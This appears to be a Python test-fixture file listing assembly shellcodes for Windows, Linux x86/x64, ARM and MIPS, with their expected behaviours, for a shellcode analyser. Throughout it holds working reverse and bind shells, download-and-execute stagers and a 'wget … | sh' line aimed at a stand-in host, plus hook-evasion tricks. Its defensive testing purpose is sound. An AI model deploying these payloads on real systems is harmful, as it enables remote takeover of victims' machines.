"""The shellcodes that the tests examine, by name, with the behaviours that they have by construction."""

from __future__ import annotations

from collections.abc import Callable

from eudaemon.payload.shellcode.behaviour import (
    Behaviour,
    Connects,
    Downloads,
    Executes,
    Listens,
    RunsReceived,
    Touches,
    Transfers,
)
from payload.shellcode.assembling import assemble, ip, port, windows32

HOST, PORT = "203.0.113.7", 4444
URL, FILE = "http://203.0.113.7:8080/a.exe", "c:\\a.exe"
SOCKET_32 = """
    load "ws2_32"
    sub esp, 0x200
    push esp; push 0x202
    api WSAStartup
    xor eax, eax
    push eax; push eax; push eax; push eax; push 1; push 2
    api WSASocketA
    mov edi, eax
"""
CONNECT_32 = SOCKET_32 + f"""
    push {ip(HOST):#x}; push {port(PORT) << 16 | 2:#x}
    mov eax, esp
    push 16; push eax; push edi
    api connect
"""  # fmt: skip
LISTEN_32 = SOCKET_32 + f"""
    push 0; push {port(PORT) << 16 | 2:#x}
    mov eax, esp
    push 16; push eax; push edi
    api bind
    push 1; push edi
    api listen
    push 0; push 0; push edi
    api accept
    mov edi, eax
"""  # fmt: skip
CMD_32 = """
    xor eax, eax
    push edi; push edi; push edi; push eax; push eax
    push 0x101
    sub esp, 44
    mov edi, esp
    push 11; pop ecx
    rep stosd
    mov dword ptr [esp], 68
    mov ecx, esp
    sub esp, 16
    mov esi, esp
    push esi; push ecx; push 0; push 0; push 0; push 1; push 0; push 0
    text "cmd"
    push 0
    mov edx, 0x16b3fe72
    mov ebx, ebp
    call resolve
    call eax
    push 0
    api ExitProcess
"""


def _with_kernel(body: str) -> bytes:
    return windows32("mov ebp, ebx\n" + body)


def connect_back_cmd() -> bytes:
    return _with_kernel(CONNECT_32 + CMD_32)


def bind_cmd() -> bytes:
    return _with_kernel(LISTEN_32 + CMD_32)


def download_and_execute() -> bytes:
    return _with_kernel(f"""
        load "urlmon"
        push 0; push 0
        text "{FILE.replace(chr(92), chr(92) * 2)}"
        text "{URL}"
        push 0
        api URLDownloadToFileA
        mov ebx, ebp
        push 0
        text "{FILE.replace(chr(92), chr(92) * 2)}"
        api WinExec
        push 0
        api ExitThread
    """)


def wininet_to_file() -> bytes:
    return _with_kernel(f"""
        load "wininet"
        push 0; push 0; push 0; push 0; push 0
        api InternetOpenA
        push 0; push 0; push 0; push 0
        text "{URL}"
        push eax
        api InternetOpenUrlA
        mov edi, eax
        mov eax, ebx
        mov ebx, ebp
        mov ebp, eax
        push 0; push 0; push 2; push 0; push 0; push 0x40000000
        text "c:\\\\b.exe"
        api CreateFileA
        mov esi, eax
        sub esp, 0x400
        mov eax, esp
        push 0
        mov ecx, esp
        push ecx; push 0x200; push eax; push edi
        xchg ebx, ebp
        api InternetReadFile
        xchg ebx, ebp
        mov eax, esp
        push 0
        mov ecx, esp
        push 0; push ecx; push 0x200; push eax; push esi
        api WriteFile
        push 0
        api ExitProcess
    """)


def second_stage() -> bytes:
    return _with_kernel(CONNECT_32 + """
        push 0x40; push 0x1000; push 0x2000; push 0
        xchg ebx, ebp
        api VirtualAlloc
        xchg ebx, ebp
        mov esi, eax
        push 0; push 0x2000; push esi; push edi
        api recv
        jmp esi
    """)  # fmt: skip


def file_transfer() -> bytes:
    return _with_kernel(LISTEN_32 + """
        push 0; push 0; push 2; push 0; push 0; push 0x40000000
        text "c:\\\\x.exe"
        xchg ebx, ebp
        api CreateFileA
        mov esi, eax
    6:  sub esp, 0x200
        mov ecx, esp
        push 0; push 0x200; push ecx; push edi
        xchg ebx, ebp
        api recv
        xchg ebx, ebp
        cmp eax, 0
        jle 5f
        mov ecx, esp
        push 0
        mov edx, esp
        push 0; push edx; push eax; push ecx; push esi
        api WriteFile
        jmp 6b
    5:  push esi
        api CloseHandle
        push 0
        text "c:\\\\x.exe"
        api WinExec
        push 0
        api ExitProcess
    """)  # fmt: skip


def in_a_thread() -> bytes:
    return windows32("""
        call 6f
        push 0
        text "calc.exe"
        api WinExec
        push 0
        api ExitThread
    6:  pop ecx
        xor eax, eax
        push eax; push eax; push eax; push ecx; push eax; push eax
        api CreateThread
        push -1
        push eax
        api WaitForSingleObject
        push 0
        api ExitProcess
    """)


def behind_an_exception() -> bytes:
    """Run what matters in a handler of structured exceptions that a fault calls."""
    return windows32("""
        jmp 6f
    5:  push 0
        text "calc.exe"
        api WinExec
        push 0
        api ExitProcess
    6:  call 8f
        mov eax, [esp+12]
        mov ecx, [eax+0xb8]
        add ecx, 2
        mov [eax+0xb8], ecx
        xor eax, eax
        ret
    8:  xor ecx, ecx
        push fs:[ecx]
        mov fs:[ecx], esp
        xor edx, edx
        mov eax, [edx]
        jmp 5b
    """)


def over_hooks() -> bytes:
    """Run a function's first instructions itself, and jump over where a hook would be."""
    return windows32(f"""
        push 0
        text "calc.exe"
        mov edx, {0x0E8AFE98:#x}
        call resolve
        call 9f
        ud2
    9:  add dword ptr [esp], 2
        mov edi, edi
        push ebp
        mov ebp, esp
        add eax, 5
        jmp eax
    """)


WINDOWS_64 = """
    and rsp, -16
    jmp start
resolve:
    push rbx; push rsi; push rdi; push rcx
    mov eax, [rbx+0x3c]
    mov edi, [rbx+rax+0x88]
    add rdi, rbx
    xor ecx, ecx
1:  mov esi, [rdi+0x20]
    add rsi, rbx
    mov esi, [rsi+rcx*4]
    add rsi, rbx
    xor r10d, r10d
    xor eax, eax
2:  lodsb
    test al, al
    jz 3f
    ror r10d, 13
    add r10d, eax
    jmp 2b
3:  cmp r10d, edx
    je 4f
    inc ecx
    jmp 1b
4:  mov eax, [rdi+0x24]
    add rax, rbx
    movzx ecx, word ptr [rax+rcx*2]
    mov esi, [rdi+0x1c]
    add rsi, rbx
    mov eax, [rsi+rcx*4]
    add rax, rbx
    pop rcx; pop rdi; pop rsi; pop rbx
    ret
start:
    mov rsi, gs:[0x60]
    mov rsi, [rsi+0x18]
    mov rsi, [rsi+0x20]
    lodsq
    xchg rax, rsi
    lodsq
    mov rbx, [rax+0x20]
    mov edx, 0x0e8afe98
    call resolve
    lea rcx, [rip+text]
    xor edx, edx
    sub rsp, 32
    call rax
    mov edx, 0x73e2d87e
    call resolve
    xor ecx, ecx
    call rax
text: .asciz "cmd.exe /c whoami"
"""

# Linux, x86, by socketcall: connect, the three standard descriptors, a shell.
CONNECT_I386 = f"""
    xor ebx, ebx
    mul ebx
    push ebx; inc ebx; push ebx; push 2
    mov ecx, esp
    mov al, 102
    int 0x80
    xchg eax, ebx
    pop ecx
9:  mov al, 63
    int 0x80
    dec ecx
    jns 9b
    push {ip(HOST):#x}
    push {port(PORT) << 16 | 2:#x}
    mov ecx, esp
    mov al, 102
    push eax; push ecx; push ebx
    mov bl, 3
    mov ecx, esp
    int 0x80
    xor eax, eax
    push eax
    push 0x68732f2f
    push 0x6e69622f
    mov ebx, esp
    push eax; push ebx
    mov ecx, esp
    cdq
    mov al, 11
    int 0x80
"""
BIND_I386 = f"""
    xor ebx, ebx
    mul ebx
    push ebx; inc ebx; push ebx; push 2
    mov ecx, esp
    mov al, 102
    int 0x80
    mov esi, eax
    push 0
    push {port(PORT) << 16 | 2:#x}
    mov ecx, esp
    push 16; push ecx; push esi
    mov ecx, esp
    mov bl, 2
    push 102; pop eax
    int 0x80
    push 1; push esi
    mov ecx, esp
    mov bl, 4
    push 102; pop eax
    int 0x80
    push 0; push 0; push esi
    mov ecx, esp
    mov bl, 5
    push 102; pop eax
    int 0x80
    mov ebx, eax
    push 2; pop ecx
9:  push 63; pop eax
    int 0x80
    dec ecx
    jns 9b
    push 0
    push 0x68732f2f
    push 0x6e69622f
    mov ebx, esp
    xor ecx, ecx
    xor edx, edx
    push 11; pop eax
    int 0x80
"""
STAGER_I386 = f"""
    push 0; push 1; push 2
    mov ecx, esp
    push 1; pop ebx
    push 102; pop eax
    int 0x80
    mov esi, eax
    push {ip(HOST):#x}
    push {port(PORT) << 16 | 2:#x}
    mov ecx, esp
    push 16; push ecx; push esi
    mov ecx, esp
    push 3; pop ebx
    push 102; pop eax
    int 0x80
    mov ebx, esi
    mov ecx, esp
    mov edx, 0xc00
    push 3; pop eax
    int 0x80
    jmp ecx
"""
CONNECT_X64 = f"""
    push 41; pop rax
    push 2; pop rdi
    push 1; pop rsi
    cdq
    syscall
    xchg rdi, rax
    mov rcx, {ip(HOST) << 32 | port(PORT) << 16 | 2:#x}
    push rcx
    mov rsi, rsp
    push 16; pop rdx
    push 42; pop rax
    syscall
    push 3; pop rsi
9:  dec rsi
    push 33; pop rax
    syscall
    jnz 9b
    push 59; pop rax
    cdq
    mov rbx, 0x68732f6e69622f
    push rbx
    mov rdi, rsp
    push rdx; push rdi
    mov rsi, rsp
    syscall
"""
COMMAND_X64 = """
    jmp 2f
1:  pop rdi
    xor edx, edx
    push rdx
    lea rax, [rdi+11]
    push rax
    lea rax, [rdi+8]
    push rax
    push rdi
    mov rsi, rsp
    push 59; pop rax
    syscall
2:  call 1b
    .asciz "/bin/sh"
    .asciz "-c"
    .asciz "wget http://203.0.113.7/x.sh -O- | sh"
"""


def _arm(thumb: str = "") -> str:
    return f"""
    .syntax unified
    {thumb}
    mov r0, #2
    mov r1, #1
    mov r2, #0
    movw r7, #281
    svc #0
    mov r6, r0
    adr r1, address
    mov r2, #16
    movw r7, #283
    svc #0
    mov r1, #2
9:  mov r0, r6
    mov r7, #63
    svc #0
    subs r1, r1, #1
    bpl 9b
    adr r0, shell
    mov r1, #0
    mov r2, #0
    mov r7, #11
    svc #0
    .align 2
address: .byte 2, 0, {PORT >> 8}, {PORT & 255}, {HOST.replace(".", ", ")}
shell: .asciz "/bin/sh"
    """


CONNECT_ARM = _arm()
CONNECT_THUMB = _arm("add r3, pc, #1\nbx r3\n.thumb")
CONNECT_ARM64 = f"""
    mov x0, #2
    mov x1, #1
    mov x2, #0
    mov x8, #198
    svc #0
    mov x6, x0
    adr x1, address
    mov x2, #16
    mov x8, #203
    svc #0
    mov x1, #2
9:  mov x0, x6
    mov x2, #0
    mov x8, #24
    svc #0
    subs x1, x1, #1
    bpl 9b
    adr x0, shell
    mov x1, #0
    mov x2, #0
    mov x8, #221
    svc #0
    .align 2
address: .byte 2, 0, {PORT >> 8}, {PORT & 255}, {HOST.replace(".", ", ")}
shell: .asciz "/bin/sh"
"""
# The old way of calling: the number stands in the instruction.
OPEN_OABI = """
    mov r0, pc
    add r0, r0, #24
    mov r1, #0
    mov r2, #0
    mov r4, #1
    mov r5, #2
    swi #0x90000b
    swi #0x900001
    .asciz "/bin/busybox"
"""


def _mips(order: str) -> str:
    port_and_family = (
        f"lui $t0, 2\nori $t0, $t0, {PORT}" if order == "big" else f"lui $t0, {port(PORT)}\nori $t0, $t0, 2"
    )
    first, second = HOST.split(".")[:2], HOST.split(".")[2:]
    if order == "little":
        first, second = second[::-1], first[::-1]
    high, low = (int(a) << 8 | int(b) for a, b in (first, second))
    return f"""
    li $a0, 2
    li $a1, 2
    li $a2, 0
    li $v0, 4183
    syscall 0x40404
    move $s0, $v0
    {port_and_family}
    sw $t0, -31($sp)
    lw $t1, -31($sp)
    sw $t1, -32($sp)
    lui $t0, {high}
    ori $t0, $t0, {low}
    sw $t0, -28($sp)
    move $a0, $s0
    addiu $a1, $sp, -32
    li $a2, 16
    li $v0, 4170
    syscall 0x40404
    li $s1, 2
9:  move $a0, $s0
    move $a1, $s1
    li $v0, 4063
    syscall 0x40404
    bnez $s1, 9b
    addiu $s1, $s1, -1
    bal 8f
    nop
8:  addiu $a0, $ra, 24
    li $a1, 0
    li $a2, 0
    li $v0, 4011
    syscall 0x40404
    nop
    .asciz "/bin/sh"
    """


_SHELL = (Connects(HOST, PORT), Executes("/bin/sh", "connection"))
SHELLCODES: dict[str, tuple[str, Callable[[], bytes], tuple[Behaviour, ...]]] = {
    "windows connect back, cmd": ("x86", connect_back_cmd, (Connects(HOST, PORT), Executes("cmd", "connection"))),
    "windows bind, cmd": ("x86", bind_cmd, (Listens("0.0.0.0", PORT), Executes("cmd", "connection"))),
    "windows download and execute": ("x86", download_and_execute, (Downloads(URL, FILE), Executes(FILE))),
    "windows wininet into a file": ("x86", wininet_to_file, (
        Touches("opens for writing", "c:\\b.exe"), Downloads(URL, "c:\\b.exe"))),
    "windows second stage": ("x86", second_stage, (Connects(HOST, PORT), RunsReceived())),
    "windows file transfer": ("x86", file_transfer, (
        Listens("0.0.0.0", PORT), Touches("opens for writing", "c:\\x.exe"), Transfers("c:\\x.exe"),
        Executes("c:\\x.exe"))),
    "windows in a thread": ("x86", in_a_thread, (Executes("calc.exe"),)),
    "windows behind an exception": ("x86", behind_an_exception, (Executes("calc.exe"),)),
    "windows over hooks": ("x86", over_hooks, (Executes("calc.exe"),)),
    "windows, 64 bits": ("x86-64", lambda: assemble("x86-64", WINDOWS_64), (Executes("cmd.exe /c whoami"),)),
    "linux i386 connect back": ("x86", lambda: assemble("x86", CONNECT_I386), (
        Connects(HOST, PORT), Executes("/bin//sh", "connection"))),
    "linux i386 bind": ("x86", lambda: assemble("x86", BIND_I386), (
        Listens("0.0.0.0", PORT), Executes("/bin//sh", "connection"))),
    "linux i386 second stage": ("x86", lambda: assemble("x86", STAGER_I386), (Connects(HOST, PORT), RunsReceived())),
    "linux x86-64 connect back": ("x86-64", lambda: assemble("x86-64", CONNECT_X64), _SHELL),
    "linux x86-64 command": ("x86-64", lambda: assemble("x86-64", COMMAND_X64), (
        Executes("/bin/sh -c 'wget http://203.0.113.7/x.sh -O- | sh'"),)),
    "linux arm connect back": ("arm", lambda: assemble("arm", CONNECT_ARM), _SHELL),
    "linux thumb connect back": ("arm", lambda: assemble("arm", CONNECT_THUMB), _SHELL),
    "linux arm, old calls": ("arm", lambda: assemble("arm", OPEN_OABI), (Executes("/bin/busybox"),)),
    "linux aarch64 connect back": ("aarch64", lambda: assemble("aarch64", CONNECT_ARM64), _SHELL),
    "linux mips connect back": ("mips", lambda: assemble("mips", _mips("big")), _SHELL),
    "linux mipsel connect back": ("mipsel", lambda: assemble("mipsel", _mips("little")), _SHELL),
}  # fmt: skip
